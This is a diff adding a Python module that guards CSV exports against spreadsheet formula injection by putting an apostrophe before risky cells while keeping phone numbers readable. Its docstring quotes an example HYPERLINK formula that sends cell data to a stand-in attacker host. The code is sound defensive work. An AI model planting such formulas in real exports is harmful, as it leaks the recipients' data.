@@ -1,0 +1,34 @@
+"""Spreadsheet exports that cannot run code: CSV injection ("formula injection", OWASP).
+
+Spreadsheet software reads a cell starting with = + - @ (or a tab or carriage return before one) as a
+formula: a producer's `nom` like `=HYPERLINK("http://evil.example/?"&A1,"clic")` would run on the social
+worker's computer. Such cells get a leading apostrophe, as OWASP recommends: shown as text, the value still
+readable. Cells made only of a sign, digits, spaces, dots, hyphens and brackets are kept as they are: phone
+numbers (`+33 1 23 45 67 89`) and numbers, in which no function, reference or command can be written.
+
+Every export writes through `SafeCsvWriter`.
+"""
+
+import csv
+import re
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# A sign then digits, spaces (non-breaking ones too), dots, hyphens, brackets: nothing a formula could call.
+NUMBER_LIKE = re.compile(r"[+-][0-9 .()\-\u00a0\u202f]*")
+
+
+def neutralise(value):
+    """The cell's value, as text if spreadsheet software would read it as a formula."""
+    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER_LIKE.fullmatch(value):
+        return "'" + value
+    return value
+
+
+class SafeCsvWriter:
+    """csv.writer whose rows are neutralised cell by cell."""
+
+    def __init__(self, output, **options):
+        self.writer = csv.writer(output, **options)
+
+    def writerow(self, row):
+        return self.writer.writerow([neutralise(value) for value in row])
